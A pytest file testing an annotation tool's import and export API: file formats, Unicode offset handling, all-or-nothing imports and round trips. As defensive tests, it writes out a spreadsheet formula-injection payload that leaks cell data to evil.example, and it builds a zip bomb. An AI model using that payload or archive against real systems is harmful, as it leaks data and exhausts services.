"""Imports and exports through the API: files in all or nothing, datasets out streamed, round trips exact."""

import csv
import io
import json
import zipfile
from xml.etree import ElementTree

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.core.management import call_command

from annotator.access import access_project
from annotator.formats import EXPORT_FORMATS
from annotator.models import AuditEvent, Document, Label, Span
from annotator.services.documents import document_create_many
from annotator.services.gold import gold_create
from annotator.services.labels import label_create
from annotator.services.members import member_add
from annotator.services.projects import project_create
from annotator.services.reviews import span_review
from annotator.services.spans import span_create
from tests.conftest import url

EMOJI_TEXT = "Crowds 👨‍👩‍👧 and 🇺🇦 flags, café\u0301 owners.\nThen Peskov told reporters that talks would resume."
TOLD = EMOJI_TEXT.index("told reporters")
# "told reporters" in UTF-16 code units: the family (5 code points, 8 units) and the flag (2, 4) add five.
TOLD_UTF16 = len(EMOJI_TEXT[:TOLD].encode("utf-16-le")) // 2


def utf16_slice(text, start, end):
    return text.encode("utf-16-le")[start * 2 : end * 2].decode("utf-16-le")


def covered(span):
    return span.document.text[span.start : span.end]


def upload(content, name="wire.jsonl"):
    data = content if isinstance(content, bytes) else content.encode()
    return SimpleUploadedFile(name, data, content_type="application/octet-stream")


def jsonl(*records):
    return "\n".join(json.dumps(record, ensure_ascii=False) for record in records) + "\n"


def post_import(client, project, content, format="jsonl", name="wire.jsonl", **fields):
    return client.post(
        url(project, "imports"), {"file": upload(content, name), "format": format, **fields}, format="multipart"
    )


def body(response):
    return b"".join(response.streaming_content)


def wider(document):
    """The text of annotator2's span in `annotated`: seven characters more than "told reporters"."""
    start = document.text.index("told reporters")
    return document.text[start - 7 : start + 14]


def zipped(*members):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return buffer.getvalue()


def state():
    return (Document.objects.count(), Span.objects.count(), Label.objects.count(), AuditEvent.objects.count())


@pytest.fixture
def annotated(project, document, owner, annotator, annotator2, label):
    """`document` with spans by both annotators (one after emoji), one accepted, and one gold span."""
    start = document.text.index("told reporters")
    mine = span_create(member=access_project(annotator, project.pk), document=document, label=label.pk,
                       start=start, end=start + 14)  # fmt: skip
    span_create(member=access_project(annotator2, project.pk), document=document, label=label.pk,
                start=start - 7, end=start + 14, note="with the name")  # fmt: skip
    span_review(member=access_project(owner, project.pk), span=mine, decision="accepted")
    gold_create(member=access_project(owner, project.pk), document=document, label=label.pk, start=start,
                end=start + 14)  # fmt: skip
    return document


class TestImport:
    def test_a_jsonl_file_with_spans_is_stored_and_counted(self, client_for, owner, project):
        content = jsonl(
            {"text": EMOJI_TEXT, "external_id": "w-1", "source": "Wire One",
             "spans": [{"start": TOLD, "end": TOLD + 14, "label": "Source attribution", "annotator": "annotator"}]},
            {"text": "A second report.", "external_id": "w-2"},
        )  # fmt: skip

        response = post_import(client_for(owner), project, content)

        assert response.status_code == 201, response.content
        assert response.json() == {
            "documents": {"stored": 2, "skipped": 0},
            "spans": {"stored": 1, "skipped": 0},
            "relations": {"stored": 0, "skipped": 0},
            "answers": {"stored": 0, "skipped": 0},
            "labels_created": [],
            "relation_types_created": [],
            "lines_skipped": 0,
        }
        span = Span.objects.get(document__external_id="w-1")
        assert EMOJI_TEXT[span.start : span.end] == "told reporters"
        assert span.annotator.username == "annotator"

    def test_reimporting_skips_what_is_there(self, client_for, owner, project):
        content = jsonl({"text": "One.", "external_id": "w-1"}, {"text": "Two.", "external_id": "w-2"})
        post_import(client_for(owner), project, content)

        again = post_import(client_for(owner), project, content).json()

        assert again["documents"] == {"stored": 0, "skipped": 2}
        assert Document.objects.filter(project=project).count() == 2

    def test_a_bad_file_gets_every_problem_with_its_line_and_stores_nothing(self, client_for, owner, project):
        before = state()
        content = jsonl(
            {"text": "Fine."},
            {"text": ""},
            {"text": "Short.", "spans": [{"start": 0, "end": 99, "label": "Source attribution"}]},
        ) + '{"text": "truncated'

        response = post_import(client_for(owner), project, content)

        assert response.status_code == 400
        assert [problem["line"] for problem in response.json()["problems"]] == [2, 3, 4]
        assert "nothing was imported" in response.json()["detail"]
        assert state() == before

    def test_labels_the_project_lacks_are_refused_unless_created(self, client_for, owner, project):
        content = jsonl({"text": "Talks resumed.", "spans": [{"start": 0, "end": 5, "label": "Whataboutism"}]})

        refused = post_import(client_for(owner), project, content)
        created = post_import(client_for(owner), project, content, create_labels="true")

        assert refused.status_code == 400
        assert refused.json()["problems"] == [{"line": 1, "message": refused.json()["problems"][0]["message"]}]
        assert "Whataboutism" in refused.json()["problems"][0]["message"]
        assert created.status_code == 201
        assert created.json()["labels_created"] == ["Whataboutism"]

    def test_bytes_that_are_not_utf8_get_a_clear_400(self, client_for, owner, project):
        response = post_import(client_for(owner), project, "café, naïve\n".encode("latin-1"), format="txt",
                               name="note.txt")  # fmt: skip

        assert response.status_code == 400
        assert "UTF-8" in response.json()["problems"][0]["message"]

    def test_a_bom_and_crlf_line_endings_are_taken_and_offsets_move_with_them(self, client_for, owner, project):
        text = "First line.\r\nPeskov told reporters."
        content = "\ufeff" + jsonl({"text": text, "spans": [{"start": 20, "end": 34, "label": "Source attribution"}]})

        response = post_import(client_for(owner), project, content)

        assert response.status_code == 201, response.content
        span = Span.objects.get(document__project=project)
        assert span.document.text == "First line.\nPeskov told reporters."
        assert span.document.text[span.start : span.end] == "told reporters"

    def test_an_unknown_format_is_a_400(self, client_for, owner, project):
        response = post_import(client_for(owner), project, "text", format="docx")

        assert response.status_code == 400
        assert "format" in response.json()

    def test_a_file_over_the_limit_gets_413_and_stores_nothing(self, client_for, owner, project, settings):
        settings.SLANT_IMPORT_MAX_BYTES = 1000
        before = state()

        response = post_import(client_for(owner), project, jsonl({"text": "x" * 2000}))

        assert response.status_code == 413
        assert state() == before

    def test_a_json_body_instead_of_a_file_is_a_415(self, client_for, owner, project):
        response = client_for(owner).post(url(project, "imports"), {"format": "jsonl"}, format="json")

        assert response.status_code == 415


class TestPlainTextImport:
    def test_a_zip_of_txt_files_stores_one_document_each(self, client_for, owner, project):
        content = zipped(("ferry.txt", "Ferry vote delayed\n\nThe council put it off."), ("notes/b.txt", "Short."))

        response = post_import(client_for(owner), project, content, format="txt", name="articles.zip")

        assert response.status_code == 201, response.content
        assert response.json()["documents"] == {"stored": 2, "skipped": 0}
        assert sorted(Document.objects.filter(project=project).values_list("title", "text")) == [
            ("Ferry vote delayed", "The council put it off."),
            ("b", "Short."),
        ]

    def test_the_same_txt_imported_again_is_counted_as_skipped(self, client_for, owner, project):
        post_import(client_for(owner), project, "No headline here.", format="txt", name="a.txt")

        again = post_import(client_for(owner), project, "No headline here.", format="txt", name="a.txt")

        assert again.status_code == 201
        assert again.json()["documents"] == {"stored": 0, "skipped": 1}
        assert Document.objects.filter(project=project).count() == 1

    def test_a_corrupt_zip_gets_a_400_that_says_so(self, client_for, owner, project):
        before = state()
        content = zipped(("a.txt", "Text. " * 300))

        response = post_import(client_for(owner), project, content[:-40], format="txt", name="articles.zip")

        assert response.status_code == 400
        assert response.json()["problems"][0]["message"].startswith("The file is not a readable zip archive")
        assert state() == before

    def test_a_zip_bomb_gets_a_400_and_stores_nothing(self, client_for, owner, project):
        before = state()
        # 201 MB of one letter deflates to about 200 KB: over what a zip may unpack to.
        buffer = io.BytesIO()
        with (
            zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive,
            archive.open("bomb.txt", "w") as member,
        ):
            for _ in range(201):
                member.write(b"a" * (1024 * 1024))

        response = post_import(client_for(owner), project, buffer.getvalue(), format="txt", name="bomb.zip")

        assert response.status_code == 400
        assert "unpack to more than 200 MB" in response.json()["problems"][0]["message"]
        assert state() == before


class TestExport:
    def test_jsonl_holds_every_document_with_its_spans_by_label_name(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "jsonl"})

        assert response.status_code == 200
        assert response["Content-Disposition"] == 'attachment; filename="ceasefire-coverage-annotations.jsonl"'
        [line] = [json.loads(row) for row in body(response).decode().splitlines()]
        assert line["id"] == annotated.pk and line["external_id"] == "talks-1"
        assert sorted((s["annotator"], s["text"], s["label"]) for s in line["spans"]) == [
            ("annotator", "told reporters", "Source attribution"),
            ("annotator2", wider(annotated), "Source attribution"),
        ]

    @pytest.mark.parametrize(
        ("layer", "expected"),
        [("accepted", [("annotator", "accepted")]), ("gold", [(None, None)])],
    )
    def test_a_layer_keeps_only_its_spans(self, client_for, owner, project, annotated, layer, expected):
        response = client_for(owner).get(url(project, "export"), {"format": "jsonl", "layer": layer})

        [line] = [json.loads(row) for row in body(response).decode().splitlines()]
        assert [(s["annotator"], s["review_status"]) for s in line["spans"]] == expected

    def test_annotator_keeps_one_annotators_spans(self, client_for, reviewer, project, annotated):
        response = client_for(reviewer).get(url(project, "export"), {"format": "csv", "annotator": "annotator2"})

        rows = list(csv.DictReader(io.StringIO(body(response).decode())))
        assert [(row["annotator"], row["text"], row["note"]) for row in rows] == [
            ("annotator2", wider(annotated), "with the name")
        ]

    def test_csv_starts_with_a_byte_order_mark_and_names_title_and_source(self, client_for, owner, project,
                                                                           annotated):  # fmt: skip
        response = client_for(owner).get(url(project, "export"), {"format": "csv", "annotator": "annotator"})

        data = body(response)
        assert data.startswith(b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,")
        [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
        assert (row["title"], row["source"], row["text"]) == ("Talks resume", "Wire One", "told reporters")

    def test_a_csv_note_that_would_run_as_a_formula_goes_out_quoted(self, client_for, owner, annotator, project,
                                                                    document, label):  # fmt: skip
        start = document.text.index("told reporters")
        span_create(member=access_project(annotator, project.pk), document=document, label=label.pk, start=start,
                    end=start + 14, note='=HYPERLINK("http://evil.example/?"&A1,"click")')  # fmt: skip

        response = client_for(owner).get(url(project, "export"), {"format": "csv"})

        [row] = list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))
        assert row["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'

    def test_csv_table_spans_is_the_default(self, client_for, owner, project, annotated):
        client = client_for(owner)

        default = body(client.get(url(project, "export"), {"format": "csv"}))
        spans = body(client.get(url(project, "export"), {"format": "csv", "table": "spans"}))

        assert default == spans

    @pytest.mark.parametrize(
        ("params", "message"),
        [
            ({"format": "jsonl", "table": "answers"}, "Only the csv export has tables"),
            ({"format": "csv", "table": "rows"}, "Unknown table 'rows'"),
            ({"format": "jsonl", "table": "relations"}, "Only the csv export has tables"),
        ],
    )
    def test_a_table_the_export_does_not_have_is_a_400_that_says_why(self, client_for, owner, project, params,
                                                                     message):  # fmt: skip
        response = client_for(owner).get(url(project, "export"), params)

        assert response.status_code == 400
        assert response.json()["table"][0].startswith(message)

    def test_brat_ann_offsets_slice_the_txt(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "brat", "annotator": "annotator"})

        archive = zipfile.ZipFile(io.BytesIO(body(response)))
        text = archive.read(f"{annotated.pk}.txt").decode()
        [entity] = [row for row in archive.read(f"{annotated.pk}.ann").decode().splitlines() if row.startswith("T")]
        _, kind_and_range, covered = entity.split("\t")
        _, start, end = kind_and_range.split(" ")
        assert text[int(start) : int(end)] == covered == "told reporters"

    def test_brat_for_every_annotator_gives_each_a_folder_of_their_own(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "brat"})

        archive = zipfile.ZipFile(io.BytesIO(body(response)))
        pk = annotated.pk
        assert sorted(archive.namelist()) == sorted(
            ["annotation.conf", "visual.conf", f"annotator/{pk}.txt", f"annotator/{pk}.ann", f"annotator2/{pk}.txt",
             f"annotator2/{pk}.ann"]
        )  # fmt: skip
        texts = {who: [row.split("\t")[2] for row in archive.read(f"{who}/{pk}.ann").decode().splitlines()
                       if row.startswith("T")] for who in ("annotator", "annotator2")}  # fmt: skip
        assert texts == {"annotator": ["told reporters"], "annotator2": [wider(annotated)]}

    def test_brat_of_the_gold_layer_is_one_folder(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "brat", "layer": "gold"})

        names = zipfile.ZipFile(io.BytesIO(body(response))).namelist()
        assert sorted(names) == sorted(["annotation.conf", "visual.conf", f"{annotated.pk}.txt", f"{annotated.pk}.ann"])

    def test_conll_starts_each_document_with_its_id(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "conll", "layer": "gold"})

        lines = body(response).decode().split("\n")
        assert lines[0] == f"-DOCSTART- -X- O O\t{annotated.pk}\tO"
        assert "told\tB-Source_attribution" in lines and "reporters\tI-Source_attribution" in lines

    @pytest.mark.parametrize("fmt", ["brat", "conll"])
    def test_the_dataset_card_lists_the_type_each_renamed_label_has(self, client_for, owner, project, annotated,
                                                                    fmt):  # fmt: skip
        label_create(member=access_project(owner, project.pk), name="Source_attribution")
        params = {"format": fmt, "layer": "gold", "zip": "true"}

        response = client_for(owner).get(url(project, "export"), params)

        archive = zipfile.ZipFile(io.BytesIO(body(response)))
        card = archive.read("README.md").decode()
        assert "| Source attribution | `Source_attribution_2` |" in card
        assert "| Source_attribution |" not in card.split("## Type names")[1]
        exported = archive.read(f"{annotated.pk}.ann" if fmt == "brat" else archive.namelist()[1]).decode()
        assert "Source_attribution_2" in exported

    def test_the_dataset_card_of_other_formats_has_no_type_names(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "jsonl", "zip": "true"})

        assert "## Type names" not in zipfile.ZipFile(io.BytesIO(body(response))).read("README.md").decode()

    def test_zip_adds_a_dataset_card(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "doccano", "zip": "true"})

        assert response["Content-Type"] == "application/zip"
        archive = zipfile.ZipFile(io.BytesIO(body(response)))
        card = archive.read("README.md").decode()
        assert "| Source attribution | s | 2 |" in card
        assert "| annotator2 | 1 |" in card
        assert "No document has two annotators' submitted work yet." in card
        assert len(archive.namelist()) == 2

    def test_the_dataset_card_carries_the_agreement_once_two_annotators_submitted(
        self, client_for, owner, annotator, annotator2, project, annotated
    ):
        for user in (annotator, annotator2):
            client_for(user).post(url(project, "documents", annotated, "submit"))
        figures = client_for(owner).get(url(project, "agreement")).json()

        response = client_for(owner).get(url(project, "export"), {"format": "jsonl", "zip": "true"})

        card = zipfile.ZipFile(io.BytesIO(body(response))).read("README.md").decode()
        overall = figures["overall"]
        assert f"| all labels | 1 | {overall['span_f1_exact']:.3f} | {overall['span_f1_overlap']:.3f} |" in card

    @pytest.mark.parametrize(
        ("params", "field"),
        [
            ({"format": "docx"}, "format"),
            ({"format": "conll"}, "format"),
            ({"format": "jsonl", "annotator": "nobody"}, "annotator"),
            ({"format": "jsonl", "layer": "gold", "annotator": "annotator"}, "annotator"),
            ({"format": "jsonl", "layer": "drafts"}, "layer"),
            ({"format": "jsonl", "zip": "maybe"}, "zip"),
        ],
    )
    def test_a_request_the_export_cannot_serve_is_a_400_naming_the_field(self, client_for, owner, project, params,
                                                                           field):  # fmt: skip
        response = client_for(owner).get(url(project, "export"), params)

        assert response.status_code == 400
        assert field in response.json()

    def test_an_outsiders_username_is_unknown_to_the_export(self, client_for, owner, project, annotated, outsider):
        response = client_for(owner).get(url(project, "export"), {"format": "jsonl", "annotator": "outsider"})

        assert response.status_code == 400

    @pytest.mark.parametrize("fmt", [fmt.name for fmt in EXPORT_FORMATS])
    def test_every_format_streams_for_one_annotator(self, client_for, owner, project, annotated, fmt):
        response = client_for(owner).get(url(project, "export"), {"format": fmt, "annotator": "annotator"})

        assert response.status_code == 200
        assert response.streaming
        assert len(body(response)) > 0

    def test_the_query_count_does_not_grow_with_documents(self, client_for, owner, project, annotated,
                                                          django_assert_max_num_queries):  # fmt: skip
        client = client_for(owner)
        with django_assert_max_num_queries(12):
            body(client.get(url(project, "export"), {"format": "jsonl"}))
        articles = [{"text": f"Article {i}."} for i in range(300)]
        document_create_many(member=access_project(owner, project.pk), items=articles)
        with django_assert_max_num_queries(12):
            body(client.get(url(project, "export"), {"format": "jsonl"}))


class TestExportOrder:
    """Each document's spans come by start, end and id, as SQL ordered them before the database sent a document's
    spans as one JSON text (dbfunctions.JsonRows): PostgreSQL orders them in the aggregate, Python on SQLite."""

    def test_spans_come_by_start_then_end_then_id_whatever_order_they_were_drawn_in(self, client_for, owner,
                                                                                   project, document, annotator,
                                                                                   annotator2, label):  # fmt: skip
        def draw(user, start, end, **fields):
            member = access_project(user, project.pk)
            return span_create(member=member, document=document, label=label.pk, start=start, end=end, **fields)

        later = draw(annotator2, 10, 20)
        widest = draw(annotator, 0, 30)
        shorter = draw(annotator, 10, 15)
        same = draw(annotator, 10, 20, note='a "quoted" note\nwith a \\ and 🎉')

        [line] = [json.loads(row) for row in body(client_for(owner).get(url(project, "export"))).splitlines()]

        assert [item["id"] for item in line["spans"]] == [widest.pk, shorter.pk, later.pk, same.pk]
        assert line["spans"][3]["note"] == 'a "quoted" note\nwith a \\ and 🎉'


@pytest.fixture
def emoji_annotated(project, owner, annotator, label):
    """A document with a ZWJ family, a flag and a combining accent before the annotator's span "told reporters"."""
    [document] = document_create_many(member=access_project(owner, project.pk),
                                      items=[{"text": EMOJI_TEXT, "external_id": "emoji-1"}])  # fmt: skip
    span_create(member=access_project(annotator, project.pk), document=document, label=label.pk, start=TOLD,
                end=TOLD + 14)  # fmt: skip
    return document


def doccano_line(text, start, end):
    return jsonl({"text": text, "label": [[start, end, "Source attribution"]]})


class TestOffsets:
    def test_the_issues_doccano_example_stores_the_word_doccano_shows(self, client_for, owner, project):
        response = post_import(client_for(owner), project, doccano_line("😀 hello world again", 9, 14),
                               format="doccano")  # fmt: skip

        assert response.status_code == 201, response.content
        assert covered(Span.objects.get(document__project=project)) == "world"

    def test_a_doccano_import_counts_utf16_code_units_by_default(self, client_for, owner, project):
        response = post_import(client_for(owner), project, doccano_line(EMOJI_TEXT, TOLD_UTF16, TOLD_UTF16 + 14),
                               format="doccano")  # fmt: skip

        assert response.status_code == 201, response.content
        span = Span.objects.get(document__project=project)
        assert (span.start, span.end, covered(span)) == (TOLD, TOLD + 14, "told reporters")

    def test_offsets_codepoints_imports_doccano_data_written_through_its_api(self, client_for, owner, project):
        response = post_import(client_for(owner), project, doccano_line(EMOJI_TEXT, TOLD, TOLD + 14),
                               format="doccano", offsets="codepoints")  # fmt: skip

        assert response.status_code == 201, response.content
        assert covered(Span.objects.get(document__project=project)) == "told reporters"

    def test_a_doccano_offset_inside_an_emoji_is_a_400_naming_the_line(self, client_for, owner, project):
        before = state()
        content = doccano_line("Fine.", 0, 4) + doccano_line("a😀b", 2, 4)

        response = post_import(client_for(owner), project, content, format="doccano")

        assert response.status_code == 400
        assert response.json()["problems"] == [
            {"line": 2, "message": "label 1: start 2 falls inside a surrogate pair (the middle of one character)"}
        ]
        assert state() == before

    def test_a_doccano_export_counts_utf16_code_units_by_default(self, client_for, owner, project, emoji_annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "doccano"})

        [line] = [json.loads(row) for row in body(response).decode().splitlines()]
        [(start, end, _)] = line["label"]
        assert (start, end) == (TOLD_UTF16, TOLD_UTF16 + 14)
        assert utf16_slice(line["text"], start, end) == "told reporters"

    def test_offsets_codepoints_exports_doccano_offsets_as_python_counts_them(self, client_for, owner, project,
                                                                               emoji_annotated):  # fmt: skip
        response = client_for(owner).get(url(project, "export"), {"format": "doccano", "offsets": "codepoints"})

        [line] = [json.loads(row) for row in body(response).decode().splitlines()]
        [(start, end, _)] = line["label"]
        assert line["text"][start:end] == "told reporters"

    def test_the_dataset_card_names_the_unit(self, client_for, owner, project, emoji_annotated):
        client = client_for(owner)
        cards = [
            zipfile.ZipFile(io.BytesIO(body(client.get(url(project, "export"), params)))).read("README.md").decode()
            for params in ({"format": "doccano", "zip": "true"},
                           {"format": "doccano", "zip": "true", "offsets": "codepoints"},
                           {"format": "labelstudio", "zip": "true"})
        ]  # fmt: skip

        assert "- offsets: UTF-16 code units" in cards[0]
        assert "- offsets: Unicode code points" in cards[1]
        assert "- offsets: Unicode code points" in cards[2]

    def test_a_label_studio_export_counts_code_points(self, client_for, owner, project, emoji_annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "labelstudio"})

        [task] = json.loads(body(response))
        [result] = task["annotations"][0]["result"]
        assert (result["value"]["start"], result["value"]["end"]) == (TOLD, TOLD + 14)

    def test_a_label_studio_import_counts_code_points(self, client_for, owner, project):
        value = {"start": TOLD, "end": TOLD + 14, "labels": ["Source attribution"]}
        result = {"type": "labels", "from_name": "label", "to_name": "text", "value": value}
        annotation = {"completed_by": {"email": "annotator@slant.invalid"}, "result": [result]}
        task = {"data": {"text": EMOJI_TEXT}, "annotations": [annotation]}

        response = post_import(client_for(owner), project, json.dumps([task]), format="labelstudio", name="ls.json")

        assert response.status_code == 201, response.content
        span = Span.objects.get(document__project=project)
        assert (covered(span), span.annotator.username) == ("told reporters", "annotator")

    @pytest.mark.parametrize(
        ("fmt", "offsets"), [("doccano", "bytes"), ("doccano", "UTF16"), ("jsonl", "utf16"), ("labelstudio", "utf16")]
    )
    def test_offsets_a_format_does_not_count_in_are_a_400_naming_offsets(self, client_for, owner, project, fmt,
                                                                          offsets):  # fmt: skip
        client = client_for(owner)
        before = state()

        imported = post_import(client, project, doccano_line("Fine.", 0, 4), format=fmt, offsets=offsets)
        exported = client.get(url(project, "export"), {"format": fmt, "offsets": offsets})

        assert (imported.status_code, exported.status_code) == (400, 400)
        assert "offsets" in imported.json() and "offsets" in exported.json()
        assert state() == before

    def test_offsets_codepoints_is_every_other_formats_own_unit(self, client_for, owner, project):
        response = post_import(client_for(owner), project, jsonl({"text": "Fine."}), offsets="codepoints")

        assert response.status_code == 201, response.content


class TestLabelStudioExport:
    def test_completed_by_is_an_email_label_studio_imports(self, client_for, owner, project, annotated):
        response = client_for(owner).get(url(project, "export"), {"format": "labelstudio"})

        [task] = json.loads(body(response))
        gold = json.loads(body(client_for(owner).get(url(project, "export"), {"format": "labelstudio",
                                                                              "layer": "gold"})))  # fmt: skip
        assert sorted(a["completed_by"]["email"] for a in task["annotations"]) == [
            "annotator2@slant.invalid", "annotator@slant.invalid"
        ]
        assert ["completed_by" in a for a in gold[0]["annotations"]] == [False]

    def test_a_zip_holds_the_labeling_config_of_the_projects_labels(self, client_for, owner, project, annotated):
        Label.objects.create(project=project, name="Quote <direct>", color="#112233", active=False)

        response = client_for(owner).get(url(project, "export"), {"format": "labelstudio", "zip": "true"})

        archive = zipfile.ZipFile(io.BytesIO(body(response)))
        assert sorted(archive.namelist()) == sorted(
            ["README.md", "ceasefire-coverage-annotations-labelstudio.json", "label_config.xml"]
        )
        view = ElementTree.fromstring(archive.read("label_config.xml"))  # noqa: S314 (our own XML)
        [control] = view.iter("Labels")
        assert [label.get("value") for label in control] == list(
            Label.objects.filter(project=project).order_by("id").values_list("name", flat=True)
        )
        [shown] = view.iter("Text")
        for task in json.loads(archive.read("ceasefire-coverage-annotations-labelstudio.json")):
            for result in (result for annotation in task["annotations"] for result in annotation["result"]):
                assert (result["from_name"], result["to_name"]) == (control.get("name"), control.get("toName"))
                assert result["to_name"] == shown.get("name") and shown.get("value") == "$text"


class TestCommands:
    def test_import_documents_and_export_dataset_take_offsets(self, owner, project, tmp_path):
        source = tmp_path / "doccano.jsonl"
        source.write_text(doccano_line(EMOJI_TEXT, TOLD, TOLD + 14))
        target = tmp_path / "out.jsonl"

        call_command("import_documents", str(project.pk), str(source), "--format", "doccano", "--offsets",
                     "codepoints", stdout=io.StringIO())  # fmt: skip
        call_command("export_dataset", str(project.pk), "--format", "doccano", "-o", str(target),
                     stderr=io.StringIO())  # fmt: skip

        assert covered(Span.objects.get(document__project=project)) == "told reporters"
        [(start, end, _)] = json.loads(target.read_text())["label"]
        assert (start, end) == (TOLD_UTF16, TOLD_UTF16 + 14)


class TestRoundTrip:
    @pytest.mark.parametrize(
        ("fmt", "offsets"), [("doccano", None), ("doccano", "codepoints"), ("labelstudio", None)]
    )
    def test_spans_after_emoji_come_back_on_the_same_characters(self, client_for, owner, project, emoji_annotated,
                                                                 fmt, offsets):  # fmt: skip
        client = client_for(owner)
        options = {"offsets": offsets} if offsets else {}
        exported = body(client.get(url(project, "export"), {"format": fmt, **options}))
        copy = project_create(user=owner, name="Copy", label_preset="framing")
        member_add(actor=access_project(owner, copy.pk), username="annotator", role="annotator")

        response = post_import(client, copy, exported, format=fmt, name="export", **options)

        assert response.status_code == 201, response.content
        span = Span.objects.get(document__project=copy)
        assert (span.start, span.end, covered(span)) == (TOLD, TOLD + 14, "told reporters")
        if fmt == "labelstudio":
            assert span.annotator.username == "annotator"

    @pytest.mark.parametrize("fmt", ["jsonl", "doccano", "labelstudio"])
    def test_export_then_import_into_a_new_project_gives_back_the_same_documents_and_spans(
        self, client_for, owner, project, annotated, fmt
    ):
        client = client_for(owner)
        exported = body(client.get(url(project, "export"), {"format": fmt}))
        copy = project_create(user=owner, name="Copy", label_preset="framing")
        for username in ("annotator", "annotator2"):
            member_add(actor=access_project(owner, copy.pk), username=username, role="annotator")

        response = post_import(client, copy, exported, format=fmt, name=f"export.{fmt}")

        assert response.status_code == 201, response.content
        original = Document.objects.get(pk=annotated.pk)
        [imported] = Document.objects.filter(project=copy)
        assert imported.text == original.text
        spans = lambda doc: sorted(  # noqa: E731
            Span.objects.filter(document=doc).values_list("start", "end", "label__name", "annotator__username")
        )
        if fmt == "doccano":  # doccano's format names no annotator: the spans come back as the importer's
            assert [s[:3] for s in spans(imported)] == [s[:3] for s in spans(original)]
        else:
            assert spans(imported) == spans(original)
        again = body(client.get(url(copy, "export"), {"format": fmt}))
        assert len(again.splitlines()) == len(exported.splitlines())
